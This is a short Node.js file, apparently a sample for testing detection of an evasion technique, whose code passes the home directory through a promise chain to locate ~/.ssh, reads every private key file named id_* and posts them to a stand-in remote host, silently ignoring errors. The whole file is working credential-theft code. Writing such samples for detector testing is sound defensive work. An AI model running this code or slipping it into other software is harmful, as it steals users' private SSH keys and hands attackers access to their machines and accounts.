// Evasion: the home directory travels down a promise chain, becomes ~/.ssh,
// the id_* files there are read and posted to a remote host.
'use strict';
const fs = require('fs');
const os = require('os');
const path = require('path');
const https = require('https');

Promise.resolve(os.homedir())
  .then((h) => path.join(h, '.ssh'))
  .then((d) => fs.readdirSync(d)
    .filter((f) => f.startsWith('id_') && !f.endsWith('.pub'))
    .map((f) => ({ name: f, key: fs.readFileSync(path.join(d, f), 'utf8') })))
  .then((keys) => {
    const req = https.request({ host: 'paste.example.com', path: '/new', method: 'POST' });
    req.end(JSON.stringify(keys));
  })
  .catch(() => {});
